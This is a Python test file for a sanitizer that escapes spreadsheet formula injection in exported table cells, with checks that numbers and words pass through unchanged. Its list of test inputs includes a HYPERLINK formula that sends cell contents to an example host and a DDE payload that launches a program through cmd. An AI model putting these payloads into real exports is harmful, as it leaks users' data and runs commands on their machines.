"""No cell of a table begins a formula, and no number or word changes."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agdb.statistics.cell_text import cell_text

FORMULAS = (
    '=HYPERLINK("https://example.org?"&A1,"x")', "=1+1", "+1+1", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)", "\t=1+1", "\r=1+1", "-", "+", "=",
)  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_calculate_becomes_words(text: str) -> None:
    assert cell_text(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["", "403.7", "-17.9", "+3", "-0,5", "-12%", "65+", "GM0363", "’s-Gravenhage", "15-25"]
)
def test_numbers_and_words_stay(text: str) -> None:
    assert cell_text(text) == text


@given(st.text(max_size=20))
def test_only_numbers_begin_with_a_sign(text: str) -> None:
    cell = cell_text(text)

    assert cell.removeprefix("'") == text or cell == text
    assert cell[:1] not in {"=", "@", "\t", "\r"}
    if cell[:1] in {"+", "-"}:
        float(cell.rstrip("%").replace(",", "").replace(".", ""))
